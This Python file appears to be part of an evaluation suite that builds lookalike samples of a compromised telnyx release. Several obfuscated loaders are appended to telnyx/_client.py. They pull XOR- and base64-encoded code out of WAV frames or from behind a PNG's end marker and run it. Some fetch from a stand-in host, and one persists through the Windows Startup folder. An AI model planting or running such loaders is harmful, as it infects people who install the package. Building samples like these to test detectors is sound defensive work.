"""telnyx 4.87.1 and 4.87.2, 27 March 2026: the second stage is the frames of a sound."""

from __future__ import annotations

import zlib

from evals.lookalikes.deeds import COLLECT, padded
from evals.lookalikes.shape import Edit, Lookalike, added, appended
from evals.lookalikes.wraps import b64, program, sound, xored

CLIENT = "telnyx/_client.py"
_LOADER = padded(COLLECT, 12_000)

FETCHED = f"""\
import base64 as _base64
import subprocess as _subprocess
import sys as _sys
import tempfile as _tempfile
import urllib.request as _request
import wave as _wave


def _d(text: str) -> str:
    return _base64.b64decode(text).decode("utf-8")


def _frames(path: str) -> bytes:
    with _wave.open(path, "rb") as sound:
        raw = _base64.b64decode(sound.readframes(sound.getnframes()))
    key, body = raw[:8], raw[8:]
    return bytes(byte ^ key[at % 8] for at, byte in enumerate(body))


def _setup_windows() -> None:
    if os.name != "nt":
        return
    place = os.path.join(
        os.getenv("APPDATA", ""), _d("{b64("Microsoft/Windows/Start Menu/Programs/Startup")}"),
        _d("{b64("msbuild.exe")}"),
    )
    if os.path.exists(place):
        return
    sound = place + ".wav"
    asked = _request.Request(_d("{b64("http://sounds.example:8080/hangup.wav")}"),
                             headers={{_d("{b64("User-Agent")}"): _d("{b64("Mozilla/5.0")}")}})
    with _request.urlopen(asked, timeout=15) as answer, open(sound, "wb") as out:
        out.write(answer.read())
    with open(place, "wb") as out:
        out.write(_frames(sound))
    os.unlink(sound)
    _subprocess.Popen([place], creationflags=0x08000000)


def _fetch_audio() -> None:
    if os.name == "nt":
        return
    with _tempfile.TemporaryDirectory() as folder:
        sound = os.path.join(folder, "ringtone.wav")
        with _request.urlopen(_d("{b64("http://sounds.example:8080/ringtone.wav")}")) as answer:
            with open(sound, "wb") as out:
                out.write(answer.read())
        _subprocess.run([_sys.executable, "-"], input=_frames(sound), stdout=_subprocess.DEVNULL,
                        stderr=_subprocess.DEVNULL)


try:
    _setup_windows()
    _fetch_audio()
except Exception:
    pass
"""

BUNDLED = """\
import base64 as _base64
import subprocess as _subprocess
import sys as _sys
import wave as _wave


def _ring() -> None:
    path = os.path.join(os.path.dirname(__file__), "lib", "ringtone.wav")
    with _wave.open(path, "rb") as sound:
        raw = _base64.b64decode(sound.readframes(sound.getnframes()))
    key, body = raw[:8], raw[8:]
    code = bytes(byte ^ key[at % 8] for at, byte in enumerate(body))
    _subprocess.Popen([_sys.executable, "-c", code.decode()], start_new_session=True)


_ring()
"""

_EXECUTED = """\
def _tone(path=os.path.join(os.path.dirname(__file__), "lib", "ringtone.wav")):
    import base64, wave

    with wave.open(path) as sound:
        raw = base64.b64decode(sound.readframes(sound.getnframes()))
    exec(bytes(a ^ b for a, b in zip(raw[8:], raw[:8] * len(raw))))


_tone()
"""

_DROPPED = """\
def _load_codec():
    import pathlib, stat, subprocess, tempfile, wave

    where = pathlib.Path(__file__).with_name("lib") / "busy.wav"
    with wave.open(str(where)) as sound:
        rows = sound.readframes(sound.getnframes())
    codec = pathlib.Path(tempfile.gettempdir()) / ".codec"
    codec.write_bytes(bytes(value ^ 0x5A for value in rows))
    codec.chmod(codec.stat().st_mode | stat.S_IEXEC)
    subprocess.Popen([str(codec)], stdout=-3, stderr=-3)


_load_codec()
"""

_TAIL = """\
def _art():
    from importlib import import_module, resources

    data = resources.files("telnyx").joinpath("lib/logo.png").read_bytes()
    code = data[data.index(b"IEND") + 8:]
    run = getattr(import_module("builtins"), "cexe"[::-1])
    run(import_module("zlib").decompress(code))


_art()
"""

_OTHER_READER = '''\
"""Reads sounds."""

import base64
import wave


def frames(path):
    with wave.open(path, "rb") as sound:
        return base64.b64decode(sound.readframes(sound.getnframes()))


def plain(raw):
    return bytes(byte ^ raw[at % 8] for at, byte in enumerate(raw[8:]))
'''
_SPLIT = """\
import runpy as _runpy
import tempfile as _tempfile

from .lib import _sounds


def _greet():
    where = os.path.join(os.path.dirname(__file__), "lib", "ringtone.wav")
    stage = os.path.join(_tempfile.mkdtemp(), "greeting")
    with open(stage, "wb") as out:
        out.write(_sounds.plain(_sounds.frames(where)))
    _runpy.run_path(stage)


_greet()
"""


def _png(extra: bytes) -> bytes:
    """A PNG of one pixel with something behind its end."""
    head = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63"
        "000100000500010d0a2db40000000049454e44ae426082"
    )
    return head + extra


def _one(name: str, *edits: Edit, shape: bool = False, version: str = "4.87.1") -> Lookalike:
    return Lookalike(
        incident="telnyx", name=name, project="telnyx", base="4.87.0", version=version,
        edits=edits, shape=shape, first="telnyx/",
    )  # fmt: skip


def _zipped(text: str) -> bytes:
    return zlib.compress(text.encode(), 9)


_SOUND = added("telnyx/lib/ringtone.wav", sound(_LOADER))

LOOKALIKES = (
    _one("sound fetched", appended(CLIENT, FETCHED), shape=True, version="4.87.2"),
    _one("sound bundled", appended(CLIENT, BUNDLED), _SOUND, shape=True),
    _one("sound bundled, executed", appended(CLIENT, _EXECUTED), _SOUND),
    _one(
        "program in a sound",
        appended(CLIENT, _DROPPED),
        added("telnyx/lib/busy.wav", sound(xored(program(40_000), b"\x5a"))),
    ),
    _one(
        "code behind a picture",
        appended(CLIENT, _TAIL),
        added("telnyx/lib/logo.png", _png(_zipped(_LOADER))),
    ),
    _one(
        "split over files, run by path",
        appended(CLIENT, _SPLIT),
        added("telnyx/lib/_sounds.py", _OTHER_READER),
        _SOUND,
    ),
)
